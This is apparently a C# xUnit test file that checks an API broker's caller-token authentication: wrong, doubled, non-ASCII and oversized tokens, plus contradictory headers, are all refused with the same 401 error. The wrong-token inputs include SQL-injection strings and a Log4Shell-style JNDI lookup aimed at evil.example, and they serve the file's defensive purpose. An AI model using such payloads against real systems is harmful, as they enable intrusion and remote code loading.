using Broker.Tests.Infrastructure;
using Broker.Tests.Leaks;

namespace Broker.Tests.Threats;

/// <summary>C11 to C13 and C17: whoever does not hold the caller token learns nothing and reaches nobody.</summary>
public class CallerTokenTests
{
    private const string Error = "client_token_required";

    private static readonly string[] NoHeaders = [];

    public static TheoryData<string> WrongTokens => new(
        "X-Broker-Token:",
        "X-Broker-Token: x",
        $"X-Broker-Token: {RunningBroker.Token[..(RunningBroker.Token.Length / 2)]}",
        $"X-Broker-Token: {RunningBroker.Token}x",
        $"X-Broker-Token: {RunningBroker.Token.ToUpperInvariant()}",
        $"X-Broker-Token: Bearer {RunningBroker.Token}",
        $"X-Broker-Token: {RunningBroker.Token},{RunningBroker.Token}",
        "Authorization: Bearer x",
        "Authorization: Bearer",
        "Authorization:",
        $"Authorization: {RunningBroker.Token}",
        $"Authorization: Basic {RunningBroker.Token}",
        $"Authorization: Bearer{RunningBroker.Token}",
        $"Authorization: Bearer\t{RunningBroker.Token}",
        $"Authorization: Bearer {RunningBroker.Token}, Bearer {RunningBroker.Token}",
        $"Authorization: Bearer token={RunningBroker.Token}",
        $"Proxy-Authorization: Bearer {RunningBroker.Token}",
        $"Cookie: token={RunningBroker.Token}",
        $"X_Broker_Token: {RunningBroker.Token}",
        "Authorization: Bearer ' OR 1=1--",
        "X-Broker-Token: ' OR '1'='1' --",
        "Authorization: Bearer ${jndi:ldap://evil.example/x}");

    public static TheoryData<string, string> Contradictions => new()
    {
        { $"X-Broker-Token: {RunningBroker.Token}", "X-Broker-Token: x" },
        { "X-Broker-Token: x", $"X-Broker-Token: {RunningBroker.Token}" },
        { $"X-Broker-Token: {RunningBroker.Token}", $"X-Broker-Token: {RunningBroker.Token}" },
        { $"Authorization: Bearer {RunningBroker.Token}", "Authorization: Bearer x" },
        { "Authorization: Basic eDp5", $"Authorization: Bearer {RunningBroker.Token}" },
        { $"Authorization: Bearer {RunningBroker.Token}", $"Authorization: Bearer {RunningBroker.Token}" },
        { $"Authorization: Bearer {RunningBroker.Token}", "X-Broker-Token: x" },
        { $"X-Broker-Token: {RunningBroker.Token}", "Authorization: Bearer sk-mine" },
        { $"X-Broker-Token: {RunningBroker.Token}", "Authorization: Bearer" },
        { $"X-Broker-Token: {RunningBroker.Token}", "api-key: x" },
        { $"api-key: {RunningBroker.Token}", "x-api-key: x" },
        { $"api-key: {RunningBroker.Token}", $"API-KEY: {RunningBroker.Token}" },
        { $"x-api-key: {RunningBroker.Token}", "x-api-key:" },
    };

    [Fact]
    public async Task C11_Token_Missing_IsRefused()
    {
        await using var stage = await Stage.StartAsync();

        var answer = await stage.AssertRefusedAsync(Request(NoHeaders), 401, Error);

        Assert.Equal("Bearer", answer.Header("WWW-Authenticate"));
    }

    [Theory]
    [MemberData(nameof(WrongTokens))]
    public async Task C11_Token_Wrong_IsRefusedInTheSameWords(string header)
    {
        await using var stage = await Stage.StartAsync();

        var answer = await stage.AssertRefusedAsync(Request([header]), 401, Error);

        // The same words for all of one carrier; an SDK's has a shape of its own.
        Assert.Equal((await stage.SendAsync(Request([$"{header.Split(':')[0]}: nothing"]))).Body, answer.Body);
    }

    [Fact]
    public async Task C11_Token_InTheQuery_IsRefusedAndInNoEvent()
    {
        await using var stage = await Stage.StartAsync();

        await stage.AssertRefusedAsync(Request(NoHeaders) with { Target = $"/v1/responses?token={RunningBroker.Token}" }, 401, Error);

        Assert.Equal("/v1/responses", Assert.Single(stage.Broker.Events()).GetProperty("path").GetString());
    }

    [Theory]
    [InlineData("/v1/unknown")]
    [InlineData("/v1/responses")]
    [InlineData("/healthz")]
    [InlineData("/")]
    public async Task C11_Path_AskedWithoutAToken_TellsNotWhetherItIsAllowed(string path)
    {
        await using var stage = await Stage.StartAsync();

        var answer = await stage.AssertRefusedAsync(Request(NoHeaders) with { Target = path, Body = "not json" }, 401, Error);

        Assert.DoesNotContain(path.Length > 1 ? path : "\"path\"", answer.Body, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("t\u00f6k")]
    [InlineData("t\u00c3\u00b6k")]
    [InlineData("\u00ff\u00fe")]
    [InlineData(Canaries.WrittenToken + "\u00c2\u00a0")]
    public async Task C12_Token_ThatIsNotAscii_IsRefused(string token)
    {
        await using var stage = await Stage.StartAsync();

        await stage.AssertRefusedAsync(Request([$"X-Broker-Token: {Canaries.In(token)}"]), 401, Error);
    }

    [Theory]
    [MemberData(nameof(Contradictions))]
    public async Task C13_Carriers_ThatContradictEachOther_AreRefused(string first, string second)
    {
        await using var stage = await Stage.StartAsync();

        await stage.AssertRefusedAsync(Request([first, second]), 401, Error);
    }

    [Fact]
    public async Task C17_Token_OfAMegabyte_IsRefusedByTheServer()
    {
        await using var stage = await Stage.StartAsync();

        await stage.AssertRefusedByServerAsync(Request([$"Authorization: Bearer {new string('x', 1024 * 1024)}"]), 431);
    }

    [Fact]
    public async Task C17_Token_AsLongAsHeadersMayBe_IsRefused()
    {
        await using var stage = await Stage.StartAsync();

        await stage.AssertRefusedAsync(Request([$"Authorization: Bearer {new string('x', 30 * 1024)}"]), 401, Error);
    }

    private static RawRequest Request(IReadOnlyList<string> headers) => new() { Token = null, Headers = headers };
}
